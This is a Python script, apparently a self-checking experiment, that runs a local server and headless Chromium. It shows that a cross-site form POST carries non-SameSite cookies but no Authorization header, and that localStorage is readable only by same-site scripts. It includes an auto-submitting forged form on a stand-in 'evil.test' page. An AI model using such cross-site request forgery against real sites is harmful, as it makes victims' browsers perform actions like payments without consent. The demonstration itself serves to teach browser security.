# check: timeout=60
# Chromium：别的站提交表单，刚设下、没写 SameSite 的 Cookie 里的随机编号和 JWT 都自动带上，Authorization 头没有；localStorage 别的站读不到，本站的任何脚本读得到
import socket, subprocess, threading
from urllib.parse import unquote

PAGES = {
    "/login": """<script>localStorage.token = 'bearer-token'
      location = 'http://shop.test:8000/script?' + (localStorage.token || 'nothing')</script>""",
    "/script": "<script>location = 'http://evil.test:8000/evil'</script>",
    "/evil": "<script>location = '/foreign?' + (localStorage.token || 'nothing')</script>",
    "/foreign": "<form method=post action='http://shop.test:8000/pay'></form><script>document.forms[0].submit()</script>",
}
out = []

def handle(conn):
    reader = conn.makefile("rb")
    method, url, _ = unquote(reader.readline().decode()).split(" ")
    headers = dict(line.decode().strip().split(": ", 1) for line in iter(reader.readline, b"\r\n"))
    path, _, query = url.partition("?")
    host = headers["Host"].split(":")[0]
    if query:
        out.append(f"script on {host if path == '/script' else 'evil.test'} reads localStorage.token: {query}")
    if method == "POST":
        out.append(f"POST {host}{path} from {headers['Origin']} Cookie: {headers.get('Cookie')} Authorization: {headers.get('Authorization')}")
    page = PAGES.get(path, "").encode()
    fields = ["HTTP/1.1 200 OK", "Content-Type: text/html", "Connection: close", f"Content-Length: {len(page)}"]
    if path == "/login":
        fields += ["Set-Cookie: sid=random-id; HttpOnly", "Set-Cookie: jwt=a.b.c; HttpOnly"]
    conn.sendall("\r\n".join([*fields, "", ""]).encode() + page)
    conn.close()

def listen(server):
    while True:
        threading.Thread(target=handle, args=server.accept()[:1], daemon=True).start()

threading.Thread(target=listen, args=(socket.create_server(("127.0.0.1", 8000)),), daemon=True).start()
subprocess.run(["chromium-headless-shell", "--no-sandbox", "--disable-gpu", "--disable-breakpad", "--user-data-dir=profile",
                "--host-resolver-rules=MAP * 127.0.0.1", "--virtual-time-budget=9000", "--dump-dom",
                "http://shop.test:8000/login"], capture_output=True)
print(*out, sep="\n")
